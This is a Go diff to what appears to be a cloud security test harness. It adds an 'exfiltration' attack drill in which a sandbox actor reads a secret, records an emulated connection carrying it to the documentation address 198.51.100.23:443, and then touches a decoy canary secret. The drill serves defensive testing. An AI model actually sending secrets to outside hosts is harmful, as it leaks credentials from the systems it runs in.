@@ -27,6 +27,7 @@ import (
 	"github.com/cloudcoop/coopguard/functions/respond"
 	"github.com/cloudcoop/coopguard/provisioner"
 	"github.com/cloudcoop/coopguard/test/emulator"
+	"github.com/cloudcoop/coopguard/test/emulator/cloudnat"
 	"github.com/cloudcoop/coopguard/test/emulator/resourcemanager"
 )
 
@@ -68,6 +69,10 @@ type Scenario struct {
 	// than GCP would (a refusal the scenario expects is no failure).
 	Act func(ctx context.Context, w *World) error
 }
+
+// ExfilAddress is where the exfiltration drill sends the key: an address
+// of the documentation range 198.51.100.0/24 (RFC 5737), outside any VPC.
+const ExfilAddress = "198.51.100.23"
 
 // Actors.
 const (
@@ -119,6 +124,26 @@ func Scenarios() []Scenario {
 			Act: func(ctx context.Context, w *World) error {
 				s := w.secretName(w.Cfg.Coopguard.Secrets[0]) + "/versions/latest"
 				_, err := w.Thief.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: s})
+				return allowed(err, "AccessSecretVersion on "+s)
+			}},
+		{Name: "exfiltration", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
+			Summary: "sends its key out of the VM to " + ExfilAddress + ":443 (TCP, through Cloud NAT), then reaches for the decoy secret beside it: AccessSecretVersion",
+			Act: func(ctx context.Context, w *World) error {
+				if w.Sandbox.Canary == "" {
+					return errors.New("no canary secret: coopguard.canary is off")
+				}
+				key := w.secretName(w.Cfg.Coopguard.Secrets[0]) + "/versions/latest"
+				if _, err := w.Agent.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: key}); err != nil {
+					return allowed(err, "AccessSecretVersion on "+key)
+				}
+				// The key leaves over the VM's only way out: the emulated
+				// Cloud NAT records the connection, nothing is sent.
+				if _, err := w.Emu.NAT.Connect(ctx, cloudnat.Connection{Project: w.Cfg.Cloud.GCP.Project, Zone: w.Cfg.Cloud.GCP.Zone, Instance: w.Sandbox.Name,
+					DestIP: ExfilAddress, DestPort: 443, Protocol: "tcp"}); err != nil {
+					return fmt.Errorf("connect to %s:443: %w", ExfilAddress, err)
+				}
+				s := w.secretName(w.Sandbox.Canary) + "/versions/latest"
+				_, err := w.Agent.Secrets.AccessSecretVersion(ctx, &secretmanagerpb.AccessSecretVersionRequest{Name: s})
 				return allowed(err, "AccessSecretVersion on "+s)
 			}},
 		{Name: "canary-read", Kind: Attack, Actor: actorSandbox, Counterpart: "own-key-read",
